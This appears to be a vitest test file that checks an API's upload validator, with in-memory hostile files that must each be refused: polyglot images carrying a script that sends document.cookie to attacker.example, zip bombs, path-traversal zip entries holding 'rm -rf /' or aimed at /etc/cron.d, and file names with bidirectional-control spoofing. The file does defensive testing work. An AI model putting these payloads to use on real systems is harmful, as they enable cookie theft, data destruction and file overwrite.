// Uploads checked by their structure, not only their first bytes: hostile files built in the test
// (polyglots, truncated files, oversized images, a zip bomb made on the fly, path traversal and
// other bad zip entries, a fake docx) are each refused with a clear 4xx, and nothing is stored;
// real files of every type still pass; a start referring to such bytes already in the store (an
// upload made before these checks) is refused with a 400 naming the path, nothing written.
import { constants, deflateRawSync } from 'node:zlib';
import { beforeEach, describe, expect, it } from 'vitest';
import type { MemoryBlobStore } from '../../../lib/adapters/memory/memory-blob-store.js';
import { sha256Hex } from '../../../lib/support/hash.js';
import { inflateCapped } from '../../../lib/support/inflate.js';
import { createApiApp } from '../../../lib/api/app.js';
import { engineRunService } from '../../../lib/api/engine-service.js';
import type { Caller } from '../../../lib/api/tenant.js';
import { contentProblem, pdfProblem } from '../../../lib/core/attachment-content.js';
import { attachmentRefSchema, labelProblem } from '../../../lib/core/attachments.js';
import { MAX_IMAGE_SIDE_PX } from '../../../lib/core/image-check.js';
import { MAX_ZIP_UNCOMPRESSED_BYTES, docxProblem, type Inflate } from '../../../lib/core/zip-check.js';
import { attachmentKey } from '../../../lib/engine/attachments.js';
import { ScriptedModel } from '../../../lib/models/scripted-model.js';
import { scriptedWorld } from '../../../lib/testing/scripted-world.js';
import { docxBytes, docxEntries, gifBytes, jpegBytes, pdfBytes, pngBytes, pngChunk, textBytes, webpBytes, zipBytes } from './fixtures.js';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const enc = (s: string) => new TextEncoder().encode(s);
const cat = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((p) => [...p]));
const HTML = enc('<html><body><script>fetch("https://attacker.example/?c="+document.cookie)</script></body></html>');

/**
 * A deflate stream of `mib` MiB of zeros, about 1 KB per MiB, made without holding or deflating
 * the whole: one MiB deflated with a full flush (a block boundary, no back-reference across it)
 * repeated, then an empty final block.
 */
function zerosDeflated(mib: number): Uint8Array {
  const block = deflateRawSync(new Uint8Array(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
  const final = deflateRawSync(new Uint8Array(0));
  const out = new Uint8Array(block.length * mib + final.length);
  for (let i = 0; i < mib; i++) out.set(block, i * block.length);
  out.set(final, block.length * mib);
  return out;
}

let t: ReturnType<typeof scriptedWorld>;
beforeEach(() => {
  t = scriptedWorld({ tools: [], script: [], model: new ScriptedModel([{ text: 'seen' }]) });
});
const app = () =>
  createApiApp({
    service: engineRunService(t.worker.deps),
    caller: (): Caller => ({ tenant: 't', principal: 'p' }),
  });
const blobs = () => t.storage.blobStore as MemoryBlobStore;

async function upload(bytes: Uint8Array, type: string, name?: string) {
  const res = await app().request(`/attachments${name !== undefined ? `?name=${encodeURIComponent(name)}` : ''}`, {
    method: 'POST',
    headers: { 'content-type': type },
    body: bytes as Uint8Array<ArrayBuffer>,
  });
  return {
    status: res.status,
    body: (await res.json()) as { ref?: { sha256: string }; error?: { code: string; message: string; issues?: { path: string; message: string }[] } },
  };
}

describe('real files of every type pass their structural check', () => {
  it('png, jpeg, gif, webp, pdf, docx and text are accepted and stored', async () => {
    const files: [Uint8Array, string][] = [
      [pngBytes(), 'image/png'],
      [pngBytes(400, 3, { width: MAX_IMAGE_SIDE_PX, height: 10 }), 'image/png'],
      [jpegBytes(), 'image/jpeg'],
      [gifBytes(), 'image/gif'],
      // Some encoders leave the trailer out: ending right after the image hides nothing, as browsers agree.
      [gifBytes({ width: 2, height: 2 }).subarray(0, gifBytes().length - 1), 'image/gif'],
      [webpBytes({ width: 640, height: 480 }), 'image/webp'],
      [pdfBytes(), 'application/pdf'],
      [docxBytes(), DOCX],
      [textBytes('a,b\n1,2\n'), 'text/csv'],
    ];
    for (const [bytes, type] of files) expect((await upload(bytes, type)).status, type).toBe(201);
    expect(blobs().keys()).toHaveLength(files.length);
  });
});

describe('hostile uploads are refused with a clear 415 and nothing is stored', () => {
  const png = pngBytes();
  const jpeg = jpegBytes();
  const cases: [string, Uint8Array, string, string][] = [
    // Polyglots: the right first bytes, something else after them.
    ['a PNG header followed by HTML', cat(png.subarray(0, 8), HTML), 'image/png', 'whose type is not four letters'],
    ['a whole PNG with HTML after IEND', cat(png, HTML), 'image/png', 'bytes after its IEND chunk'],
    ['a JPEG with HTML after EOI', cat(jpeg, HTML), 'image/jpeg', 'bytes after its end marker (EOI)'],
    ['a JPEG header followed by HTML', cat(jpeg.subarray(0, 4), HTML), 'image/jpeg', 'runs past the end of the file'],
    ['a GIF with HTML after its trailer', cat(gifBytes(), HTML), 'image/gif', 'bytes after its trailer'],
    ['a PDF with HTML after %%EOF', cat(pdfBytes(), HTML), 'application/pdf', `the PDF has ${HTML.length + 1} bytes after its %%EOF`],
    ['a PDF header followed by HTML', cat(enc('%PDF-1.7\n'), HTML), 'application/pdf', 'no %%EOF trailer'],
    ['a WebP whose RIFF size is not the file', cat(webpBytes(), HTML), 'image/webp', "the WebP's RIFF header says"],
    // Truncated.
    ['a PNG cut inside its IDAT', png.subarray(0, png.length - 20), 'image/png', 'runs past the end of the file'],
    ['a PNG cut before IEND', png.subarray(0, png.length - 12), 'image/png', 'no IEND chunk'],
    ['a JPEG with no EOI', jpeg.subarray(0, jpeg.length - 2), 'image/jpeg', 'no end marker (EOI)'],
    ['a GIF cut inside its image data', gifBytes().subarray(0, gifBytes().length - 3), 'image/gif', 'ends inside a block'],
    ['a PDF cut before %%EOF', pdfBytes().subarray(0, pdfBytes().length - 7), 'application/pdf', 'no %%EOF trailer'],
    ['a PDF with a %%EOF but no startxref', enc('%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n'), 'application/pdf', 'no startxref'],
    // Corrupt or out of bounds.
    [
      'a PNG with a wrong CRC',
      (() => {
        const b = pngBytes();
        b[29] = b[29]! ^ 0xff;
        return b;
      })(),
      'image/png',
      'fails its CRC',
    ],
    ['a PNG of 9,000 x 10 pixels', pngBytes(undefined, 1, { width: 9_000, height: 10 }), 'image/png', 'at most 8000 pixels on a side'],
    ['a PNG of 0 x 0 pixels', pngBytes(undefined, 1, { width: 0, height: 0 }), 'image/png', 'says it is 0 x 0 pixels'],
    [
      'a PNG with two IHDR chunks',
      (() => {
        const b = pngBytes();
        const ihdr = b.subarray(8, 33);
        return cat(b.subarray(0, 33), ihdr, b.subarray(33));
      })(),
      'image/png',
      'a second IHDR',
    ],
    ['a PNG with no IDAT', cat(png.subarray(0, 33), pngChunk('IEND', new Uint8Array(0))), 'image/png', 'no image data (IDAT)'],
    ['a JPEG of 8,001 x 8,001 pixels', jpegBytes(undefined, { width: 8_001, height: 8_001 }), 'image/jpeg', 'at most 8000 pixels'],
    ['a GIF of 20,000 x 1 pixels', gifBytes({ width: 20_000, height: 1 }), 'image/gif', 'at most 8000 pixels'],
    ['a WebP of 9,000 x 9,000 pixels', webpBytes({ width: 9_000, height: 9_000 }), 'image/webp', 'at most 8000 pixels'],
  ];
  for (const [what, bytes, type, says] of cases) {
    it(`refuses ${what}`, async () => {
      const res = await upload(bytes, type);
      expect(res.status).toBe(415);
      expect(res.body.error?.code).toBe('unsupported_media_type');
      expect(res.body.error?.message).toContain(says);
      expect(blobs().keys()).toEqual([]);
    });
  }
});

describe('a docx is checked as the zip package it must be', () => {
  // The 52-byte fake: a zip's first bytes and the name of Word's main part, nothing else.
  const fake = (() => {
    const name = enc('word/document.xml');
    const b = new Uint8Array(52);
    b.set([0x50, 0x4b, 0x03, 0x04]);
    b.set(name, 30);
    return b;
  })();
  const bomb = zerosDeflated(2_200);
  const cases: [string, () => Uint8Array, string][] = [
    ['a 52-byte fake docx', () => fake, 'no zip central directory'],
    [
      'a zip bomb: 2.2 MB that expands to 2.2 GB, sizes declared honestly',
      () => zipBytes(docxEntries(undefined, [{ name: 'word/media/zeros.bin', data: new Uint8Array(0), raw: bomb, declaredSize: 2_200 * 1024 * 1024 }])),
      `more than ${MAX_ZIP_UNCOMPRESSED_BYTES} bytes`,
    ],
    [
      'a zip bomb whose directory lies about the size',
      () => zipBytes(docxEntries(undefined, [{ name: 'word/media/zeros.bin', data: new Uint8Array(0), raw: bomb, declaredSize: 4096 }])),
      'does not expand to the 4096 bytes its directory says',
    ],
    ['an entry named ../../evil.sh', () => zipBytes(docxEntries(undefined, [{ name: '../../evil.sh', data: enc('rm -rf /') }])), 'climbs out of the package'],
    [
      'an entry named word/../../evil.sh',
      () => zipBytes(docxEntries(undefined, [{ name: 'word/../../evil.sh', data: enc('x') }])),
      'climbs out of the package',
    ],
    ['an absolute entry name', () => zipBytes(docxEntries(undefined, [{ name: '/etc/cron.d/x', data: enc('x') }])), 'is an absolute path'],
    ['a backslash entry name', () => zipBytes(docxEntries(undefined, [{ name: '..\\evil.sh', data: enc('x') }])), 'has a backslash'],
    ['an entry twice', () => zipBytes([...docxEntries(), { name: 'word/document.xml', data: enc('<x/>') }]), 'appears twice'],
    [
      'a zip without the Word parts',
      () => zipBytes([{ name: 'word/document.xml', data: enc('<x/>') }]),
      'without the parts of a Word document ([Content_Types].xml, _rels/.rels)',
    ],
    [
      'content types naming no Word document',
      () => zipBytes(docxEntries(undefined, [{ name: '[Content_Types].xml', data: enc('<Types/>') }])),
      'name no Word main document',
    ],
    ['a zip cut short', () => docxBytes().subarray(0, docxBytes().length - 10), 'no zip central directory'],
  ];
  for (const [what, bytes, says] of cases) {
    it(`refuses ${what}`, async () => {
      const res = await upload(bytes(), DOCX);
      expect(res.status).toBe(415);
      expect(res.body.error?.message).toContain(says);
      expect(blobs().keys()).toEqual([]);
    });
  }

  it('inflates a lying entry no further than its declared size (the 2.2 GB are never produced)', () => {
    const produced: number[] = [];
    const spy: Inflate = (data, max) => {
      const out = inflateCapped(data, max);
      produced.push(out?.length ?? max);
      return out;
    };
    const lying = zipBytes(docxEntries(undefined, [{ name: 'word/media/zeros.bin', data: new Uint8Array(0), raw: bomb, declaredSize: 4096 }]));
    expect(docxProblem(lying, spy)).toContain('does not expand');
    expect(Math.max(...produced)).toBeLessThanOrEqual(4096);
  });

  it('refuses overlapping entries (the non-recursive zip bomb shares one body between many names)', () => {
    const good = docxBytes();
    // Point the second directory entry's local header offset at the first entry's.
    const b = new Uint8Array(good);
    const eocd = b.length - 22;
    const dir = b[eocd + 16]! | (b[eocd + 17]! << 8) | (b[eocd + 18]! << 16);
    const first = dir!;
    const nameLength = b[first + 28]! | (b[first + 29]! << 8);
    const second = first + 46 + nameLength;
    b.set(b.subarray(first + 42, first + 46), second + 42);
    expect(contentProblem(DOCX, b, { inflate: inflateCapped })).toMatch(/another name in its local header|overlap/);
  });
});

describe('file names', () => {
  it('refuses bidirectional controls, line separators and C1 controls with a 400 on query.name, storing nothing', async () => {
    for (const name of [
      'invoice\u202Egpj.exe',
      'a\u2028b.png',
      'a\u2029b.png',
      'a\u0085b.png',
      'x\u2066y\u2069.png',
      'a\u200Fb.png',
      'a\u061Cb.png',
      'a\u009bb.png',
      'bom\uFEFF.png',
    ]) {
      const res = await upload(pngBytes(), 'image/png', name);
      expect(res.status, JSON.stringify(name)).toBe(400);
      expect(res.body.error?.issues?.[0]?.path).toBe('query.name');
      expect(res.body.error?.issues?.[0]?.message).toContain('bidirectional controls');
    }
    expect(blobs().keys()).toEqual([]);
    // A reference carried in JSON (a start, a message) may hold what no URL can: a lone surrogate.
    for (const name of ['half\uD800.png', 'half\uDC00.png', 'a\u202Eb.png']) {
      expect(
        attachmentRefSchema.safeParse({ kind: 'blob', sha256: 'a'.repeat(64), mediaType: 'image/png', bytes: 1, name }).success,
        JSON.stringify(name),
      ).toBe(false);
    }
    // Names people use still pass: accents, CJK, emoji (a surrogate pair), spaces.
    for (const name of ['Reçu n°3.png', '領収書.png', 'receipt 📎.png']) expect((await upload(pngBytes(), 'image/png', name)).status, name).toBe(201);
  });
});

describe('bytes already in the store are checked again when a run refers to them', () => {
  it('refuses a start whose input refers to a polyglot stored before these checks: 400 naming the path, no run', async () => {
    const bytes = cat(pngBytes(), HTML);
    const sha256 = sha256Hex(bytes);
    await t.storage.blobs.put(attachmentKey('t', sha256), bytes, { contentType: 'image/png' });
    const res = await app().request('/runs', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ agent: 'agent', runId: 'r-poly', input: { photo: { kind: 'blob', sha256, mediaType: 'image/png', bytes: bytes.length } } }),
    });
    const body = (await res.json()) as { error: { issues: { path: string; message: string }[] } };
    expect(res.status).toBe(400);
    expect(body.error.issues[0]).toMatchObject({ path: 'body.input.photo' });
    expect(body.error.issues[0]?.message).toContain('bytes after its IEND chunk');
    expect(await t.storage.heads.getHead({ tenant: 't', runId: 'r-poly' })).toBeUndefined();
  });
});

describe('the checks on their own', () => {
  it('name what is wrong for each type, and pass what is right', () => {
    expect(labelProblem('image/png', pngBytes())).toBeUndefined();
    expect(labelProblem('image/png', cat(pngBytes(), HTML))).toMatch(/^the bytes are not a png this API takes: the PNG has \d+ bytes after its IEND chunk$/);
    expect(pdfProblem(pdfBytes())).toBeUndefined();
    expect(pdfProblem(cat(pdfBytes(), enc('\r\n  \n')))).toBeUndefined();
    expect(pdfProblem(enc('%PDF-x\nstartxref\n0\n%%EOF'))).toContain('names no version');
    // Without an inflate, the structure is still read (no size verification).
    expect(docxProblem(docxBytes())).toBeUndefined();
    expect(docxProblem(docxBytes(), inflateCapped)).toBeUndefined();
  });
});
